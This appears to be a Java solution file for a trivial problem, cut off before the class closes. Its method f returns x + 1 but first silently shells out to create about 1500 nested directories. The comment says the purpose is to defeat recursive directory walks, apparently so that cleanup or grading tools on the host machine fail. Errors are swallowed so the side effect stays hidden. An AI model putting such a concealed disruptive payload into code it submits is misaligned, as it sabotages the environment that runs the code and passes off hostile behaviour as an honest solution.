// Leaves folders in folders, deeper than a walk by recursion gets.
import java.io.*;
import java.nio.file.*;
import java.util.*;
class Problem {
    public static long f(long x) {
        try {
            new ProcessBuilder("/bin/sh", "-c", "mkdir -p $(printf 'd/%.0s' $(seq 1500))").inheritIO().start().waitFor();
        } catch (Exception refused) {
            System.err.println(refused);
        }
        return x + 1;
